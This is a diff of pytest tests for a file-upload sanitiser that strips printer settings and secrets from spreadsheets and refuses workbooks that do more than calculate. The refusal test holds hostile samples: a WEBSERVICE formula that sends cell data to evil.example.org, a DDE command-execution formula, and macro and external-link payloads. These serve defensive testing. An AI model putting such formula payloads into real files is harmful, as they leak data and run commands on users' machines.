@@ -6,6 +6,7 @@ import re
 import unicodedata
 import zipfile
 
+import openpyxl
 import pikepdf
 import pytest
 from django.core.exceptions import ImproperlyConfigured
@@ -14,7 +15,7 @@ from PIL import Image
 import files
 from files import RefusedFileError, names, scanning
 from files.pictures import without_metadata
-from files.terms import FileKind
+from files.terms import DOCUMENTS, FileKind
 from prevent_portal import guard
 from tests.referrals import clamd, hostile
 
@@ -292,3 +293,89 @@ def test_files_that_nobody_looked_at_are_opened_in_a_demonstration_only():
     guard.check_unscanned(demonstration=True)
     with pytest.raises(ImproperlyConfigured, match="demonstration"):
         guard.check_unscanned(demonstration=False)
+
+
+# Spreadsheets -----------------------------------------------------------------------------------
+SHEETS = (*DOCUMENTS, FileKind.XLSX)
+
+
+def with_printer(name, part):
+    if name == "xl/worksheets/sheet1.xml":
+        assert b"<pageMargins" in part
+        return re.sub(
+            rb"(<pageMargins[^>]*/>)", rb'\1<pageSetup paperSize="9" r:id="rId7"/>', part
+        ).replace(b"<worksheet ", f'<worksheet xmlns:r="{hostile.REL}" '.encode(), 1)
+    return part
+
+
+def test_a_spreadsheet_is_kept_with_its_sums_and_without_its_author_and_its_printer():
+    printer = hostile.relations("printerSettings", "../printerSettings/printerSettings1.bin")
+    content = hostile.workbook(
+        "=SUM(B1:B2)",
+        '=B1&"|"&B2',
+        change=with_printer,
+        **{
+            "xl/worksheets/_rels/sheet1.xml.rels": printer.replace(b' TargetMode="External"', b""),
+            "xl/printerSettings/printerSettings1.bin": hostile.SECRET.encode(),
+        },
+    )
+    kept = files.clean("training.xlsx", content, taken=SHEETS)
+    assert (kept.kind, kept.name) == (FileKind.XLSX, "training.xlsx")
+    with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    assert not [name for name in parts if "printer" in name.lower()]
+    assert all(b"rId7" not in part and b"printer" not in part.lower() for part in parts.values())
+    assert all(hostile.SECRET.encode() not in part for part in parts.values())
+    sheet = openpyxl.load_workbook(io.BytesIO(kept.content)).active
+    assert [sheet[f"A{row}"].value for row in (1, 2, 3)] == [
+        "Staff trained",
+        "=SUM(B1:B2)",
+        '=B1&"|"&B2',
+    ]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        hostile.workbook('=WEBSERVICE("http://evil.example.org/"&A1)'),
+        hostile.workbook("=cmd|'/C calc'!A0"),
+        hostile.workbook('=\'a"b\'!A1+WEBSERVICE("x")&""'),
+        hostile.workbook('=HYPERLINK("http://evil.example.org/","Open")'),
+        hostile.workbook(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
+        hostile.workbook(
+            change=lambda name, part: part.replace(
+                b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
+            )
+        ),
+        hostile.workbook(
+            **{
+                "xl/worksheets/_rels/sheet1.xml.rels": hostile.relations(
+                    "externalLinkPath", "file://evil.example.org/x.xlsx"
+                )
+            }
+        ),
+        hostile.packed(hostile.docx_parts()),
+        hostile.HTML,
+        hostile.EXE,
+    ],
+    ids=[
+        "fetch",
+        "dde",
+        "quoted",
+        "link",
+        "macro",
+        "macro-type",
+        "elsewhere",
+        "word",
+        "web",
+        "exe",
+    ],
+)
+def test_a_spreadsheet_that_does_more_than_calculate_is_refused(content):
+    with pytest.raises(RefusedFileError):
+        files.clean("a.xlsx", content, taken=SHEETS)
+
+
+def test_a_concern_takes_no_spreadsheet():
+    with pytest.raises(RefusedFileError, match="Save it as PDF"):
+        files.clean("a.xlsx", hostile.workbook())
